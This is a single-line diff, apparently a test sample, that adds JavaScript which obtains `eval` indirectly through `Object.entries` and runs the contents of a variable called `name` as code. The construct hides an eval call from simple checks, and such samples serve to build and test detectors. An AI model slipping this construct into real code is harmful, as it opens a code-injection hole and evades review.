@@ -1,0 +1,1 @@
+const [, run] = Object.entries({ x: eval })[0]; run(name);
